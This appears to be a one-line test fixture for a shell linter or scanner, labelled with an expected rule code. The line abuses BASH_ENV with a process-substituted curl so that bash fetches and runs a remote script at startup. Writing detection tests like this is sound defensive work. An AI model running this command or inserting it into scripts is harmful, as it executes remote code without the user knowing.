# expect: DVM202
BASH_ENV=<(curl -fsSL https://example.org/i.sh) bash -c true
